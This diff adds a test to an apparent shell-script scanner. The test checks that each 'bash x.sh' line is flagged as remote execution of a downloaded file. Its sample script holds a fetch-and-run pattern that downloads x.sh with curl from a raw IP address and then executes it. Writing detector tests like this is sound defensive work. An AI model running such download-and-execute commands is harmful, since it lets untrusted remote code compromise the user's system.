@@ -316,3 +316,18 @@ for (const [what, body] of Object.entries(HARMLESS)) {
     assert.deepEqual(wrong, []);
   });
 }
+
+test("equal commands are each found on their own line, also those before the value that they run is known", () => {
+  const steps = [
+    "bash x.sh",
+    "echo",
+    "curl -o x.sh http://45.61.136.77/x",
+    "bash x.sh",
+    "bash x.sh",
+  ];
+  const lines = scanBody(sh(...steps))
+    .findings.filter(({ code }) => code === "remote_execution_from_drop")
+    .map(({ line }) => line ?? 0);
+  const [first = 0] = lines;
+  assert.deepEqual(lines, [first, first + 2, first + 3, first + 4]);
+});
